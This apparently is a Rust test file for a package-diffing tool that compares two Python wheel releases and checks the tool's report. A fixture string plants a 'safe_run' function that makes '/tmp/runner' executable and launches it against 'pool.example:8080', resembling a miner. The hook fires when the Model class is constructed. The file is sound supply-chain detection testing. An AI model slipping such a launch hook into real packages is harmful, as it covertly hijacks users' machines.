//! `wellhead diff` of two releases, as the guide shows it.

use crate::{Project, archive, rules};

fn wheel(version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let info = format!("acme-{version}.dist-info");
    let metadata = format!("Metadata-Version: 2.1\nName: acme\nVersion: {version}\n");
    let tags = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_owned();
    let mut members: Vec<(String, String)> = files
        .iter()
        .map(|(path, text)| ((*path).to_owned(), (*text).to_owned()))
        .collect();
    members.push((format!("{info}/METADATA"), metadata));
    members.push((format!("{info}/WHEEL"), tags));
    let members: Vec<(&str, &str)> = members.iter().map(|(name, text)| (&**name, &**text)).collect();
    archive(&members)
}

const DOWNLOADS: &str =
    "import subprocess\n\n\ndef unpack(path):\n    subprocess.run([\"tar\", \"-xf\", path], check=True)\n";
const POISONED: &str = "import os\nimport subprocess\n\n\ndef unpack(path):\n    subprocess.run([\"tar\", \"-xf\", path], check=True)\n\n\n\
    def safe_run(path):\n    os.chmod(path, 0o770)\n    subprocess.Popen([path, \"-o\", \"pool.example:8080\"])\n";
const MODEL: &str = "from acme.downloads import unpack\n\n\nclass Model:\n    def __init__(self, path):\n        unpack(path)\n";
const POISONED_MODEL: &str = "from acme.downloads import safe_run, unpack\n\n\nclass Model:\n    def __init__(self, path):\n        \
    unpack(path)\n        safe_run(\"/tmp/runner\")\n";

fn project() -> Project {
    let project = Project::new(&[]);
    let init = ("acme/__init__.py", "from acme.model import Model\n");
    let old = wheel(
        "8.3.40",
        &[init, ("acme/downloads.py", DOWNLOADS), ("acme/model.py", MODEL)],
    );
    let new = wheel(
        "8.3.41",
        &[
            init,
            ("acme/downloads.py", POISONED),
            ("acme/model.py", POISONED_MODEL),
        ],
    );
    project.write("acme-8.3.40-py3-none-any.whl", &old);
    project.write("acme-8.3.41-py3-none-any.whl", &new);
    project
}

#[test]
fn the_guide_shows_what_the_program_says() {
    let project = project();
    let args = [
        "diff",
        "acme-8.3.40-py3-none-any.whl",
        "acme-8.3.41-py3-none-any.whl",
    ];
    let ran = project.run(&args);
    assert_eq!(ran.code, 1, "{}{}", ran.out, ran.err);
    let page = include_str!("../../../../docs/diff-packages.md");
    let session = format!("```console\n$ wellhead {}\n{}```\n", args.join(" "), ran.out);
    assert!(
        page.contains(&session),
        "docs/diff-packages.md should say\n{session}"
    );
}

#[test]
fn the_report_is_the_same_in_every_format() {
    let project = project();
    let run = |format: &str| {
        let ran = project.run(&[
            "diff",
            "acme-8.3.40-py3-none-any.whl",
            "acme-8.3.41-py3-none-any.whl",
            "--format",
            format,
        ]);
        assert_eq!(ran.code, 1, "{}{}", ran.out, ran.err);
        serde_json::from_str::<serde_json::Value>(&ran.out).unwrap()
    };
    let json = run("json");
    assert_eq!(rules(&json), ["new-capability"]);
    assert_eq!(json["findings"][0]["properties"]["function"], "safe_run");
    let sarif = run("sarif");
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), 1);
    assert_eq!(results[0]["ruleId"], "new-capability");
}

#[test]
fn what_cannot_be_read_is_no_pass_under_strict() {
    let project = project();
    project.write("acme-8.3.42-py3-none-any.whl", b"PK\x03\x04 cut off");
    let args = [
        "diff",
        "acme-8.3.40-py3-none-any.whl",
        "acme-8.3.42-py3-none-any.whl",
        "--strict",
    ];
    let ran = project.run(&args);
    assert_ne!(ran.code, 0, "{}{}", ran.out, ran.err);
}
